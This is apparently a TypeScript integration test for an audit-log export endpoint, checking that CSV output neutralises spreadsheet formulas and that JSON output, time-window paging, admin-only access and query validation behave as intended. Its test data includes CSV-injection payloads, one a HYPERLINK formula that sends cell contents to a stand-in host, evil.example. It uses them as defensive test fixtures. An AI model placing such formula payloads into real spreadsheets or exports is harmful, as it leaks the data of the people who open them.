import { ApiClient } from '../../testing/api-client';
import { ManualClock } from '../../testing/manual-clock';
import { startTestServer, type TestServer } from '../../testing/test-server';
import { AuditService } from './audit.service';

const HOUR_MS = 3_600_000;

/** Time stands still while `held` is set: entries recorded meanwhile share one time. */
class HeldClock extends ManualClock {
  held: number | null = null;
  override now(): number {
    return this.held ?? super.now();
  }
}

/** RFC 4180 records back into fields (an independent reader: quoted fields, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    record.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') endField();
    else if (c === '\r' && text[i + 1] === '\n') {
      endField();
      records.push(record);
      record = [];
      i++;
    } else field += c;
  }
  if (field || record.length) throw new Error('the last record is not ended by CRLF');
  return records;
}

/** GET /api/audit/export: the real server on a real SQLite file, the clock held still so entries share a time. */
describe('audit log export (real server, real SQLite file)', () => {
  let server: TestServer;
  let clock: HeldClock;
  let admin: ApiClient;
  let t1: number;
  let t2: number;
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\tTAB', '\rcmd', 'a,b "c"\r\nd', 'plain:subject'];

  beforeAll(async () => {
    clock = new HeldClock();
    server = await startTestServer({}, clock);
    admin = new ApiClient(server.url);
    await admin.post('/api/auth/setup', { setupCode: server.setupCode(), username: 'admin', password: 'admin password 1' });
    for (const [username, role] of [['vera', 'viewer'], ['otto', 'operator']]) {
      expect((await admin.post('/api/users', { username, password: `${username} password 1`, role })).status).toBe(201);
    }
    const audit = server.app.get(AuditService);
    t1 = clock.now() + 60_000;
    clock.held = t1;
    // Text users choose can reach subjects, details and actors: all at one time (ties are ordered by id).
    for (const subject of hostile) await audit.record({ actor: { id: null, username: '=token' }, action: 'test.hostile', subject, detail: { name: subject }, source: '-1' });
    t2 = t1 + 1_000;
    clock.held = t2;
    for (let i = 0; i < 3; i++) await audit.record({ actor: null, action: 'test.later', subject: `n:${i}`, detail: null, source: null });
  });

  afterAll(async () => {
    await server.stop();
  });

  it('neutralises formulas in CSV text cells and keeps every field intact, oldest first', async () => {
    const res = await admin.get(`/api/audit/export?from=${t1}&to=${t2 + 1}&format=csv`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="meshping-audit-${t1}-${t2 + 1}.csv"`);
    const [header, ...rows] = parseCsv(res.body);
    expect(header).toEqual(['at_iso', 'at_ms', 'id', 'actor_id', 'actor', 'action', 'subject', 'detail', 'source']);
    expect(rows).toHaveLength(hostile.length + 3);
    const ids = rows.map((r) => Number(r[2]));
    expect(ids).toEqual([...ids].sort((a, b) => a - b));
    rows.slice(0, hostile.length).forEach((r, i) => {
      expect(r).toEqual([new Date(t1).toISOString(), String(t1), String(ids[i]), '', "'=token", 'test.hostile', /^[=+\-@\t\r]/.test(hostile[i]) ? `'${hostile[i]}` : hostile[i], JSON.stringify({ name: hostile[i] }), "'-1"]);
    });
    expect(rows.slice(hostile.length).map((r) => [r[1], r[4], r[6], r[7], r[8]])).toEqual([0, 1, 2].map((i) => [String(t2), '', `n:${i}`, '', '']));
    // No cell of the file starts a formula.
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('gives the same entries as JSON, unaltered, matching the audit list', async () => {
    const res = await admin.get(`/api/audit/export?from=${t1}&to=${t2 + 1}&format=json`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="meshping-audit-${t1}-${t2 + 1}.json"`);
    const list = (await admin.get('/api/audit?limit=1000')).body as { id: number; at: number; actorId: number | null; actor: string | null; action: string; subject: string | null; detail: unknown; source: string | null }[];
    const inWindow = list.filter((e) => e.at >= t1 && e.at <= t2).reverse();
    expect(res.body).toEqual(inWindow.map(({ at, ...e }) => ({ atIso: new Date(at).toISOString(), atMs: at, id: e.id, actorId: e.actorId, actor: e.actor, action: e.action, subject: e.subject, detail: e.detail, source: e.source })));
    expect(res.body.map((e: { subject: string }) => e.subject).slice(0, hostile.length)).toEqual(hostile);
  });

  it('takes `from` inclusive and `to` exclusive; pages of the log share times without losing or repeating an entry', async () => {
    const first = await admin.get(`/api/audit/export?from=${t1}&to=${t2}&format=json`);
    expect(first.body.map((e: { action: string }) => e.action)).toEqual(hostile.map(() => 'test.hostile'));
    const second = await admin.get(`/api/audit/export?from=${t1 + 1}&to=${t2 + 1}&format=json`);
    expect(second.body.map((e: { subject: string }) => e.subject)).toEqual(['n:0', 'n:1', 'n:2']);
    // Pages of 3 over 8 entries at one time and 3 at the next: keyset paging on (at, id).
    const pages: number[][] = [];
    for await (const page of server.app.get(AuditService).pages(t1, t2 + 1, 3)) pages.push(page.map((e) => e.id));
    expect(pages.map((p) => p.length)).toEqual([3, 3, 3, 2]);
    expect(pages.flat()).toEqual([...first.body, ...second.body].map((e: { id: number }) => e.id));
  });

  it('gives a header-only CSV and [] for a window without entries', async () => {
    const from = Date.UTC(2001, 0, 1);
    const csv = await admin.get(`/api/audit/export?from=${from}&to=${from + HOUR_MS}`);
    expect([csv.status, csv.body]).toEqual([200, 'at_iso,at_ms,id,actor_id,actor,action,subject,detail,source\r\n']);
    const json = await admin.get(`/api/audit/export?from=${from}&to=${from + HOUR_MS}&format=json`);
    expect([json.status, json.body]).toEqual([200, []]);
  });

  it('is for admins only: a viewer or operator gets 403, no session 401', async () => {
    for (const username of ['vera', 'otto']) {
      const client = new ApiClient(server.url);
      expect((await client.login(username, `${username} password 1`)).status).toBe(200);
      expect((await client.get('/api/audit/export')).status).toBe(403);
    }
    expect((await new ApiClient(server.url).get('/api/audit/export')).status).toBe(401);
  });

  it('refuses bad queries with a 400 naming the field', async () => {
    const now = clock.now();
    const cases: [string, string][] = [
      ['format=xlsx', 'format must be one of: csv, json'],
      ['from=soon', 'from must be an integer (epoch ms)'],
      ['to=1e300', 'to must not be after 8640000000000000 ms'],
      [`to=${now + HOUR_MS}`, 'to must not be more than 5 minutes ahead'],
      [`from=${now}&to=${now}`, 'from must be before to'],
      [`from=${now - 8785 * HOUR_MS}&to=${now}`, 'from must be at most 8784 hours before to'],
      ['limit=5', 'property limit should not exist'],
    ];
    for (const [query, message] of cases) {
      const res = await admin.get(`/api/audit/export?${query}`);
      expect([query, res.status, JSON.stringify(res.body.message)]).toEqual([query, 400, expect.stringContaining(message)]);
    }
    expect((await admin.get(`/api/audit/export?from=${now - 8784 * HOUR_MS}&to=${now}&format=json`)).status).toBe(200);
  });
});
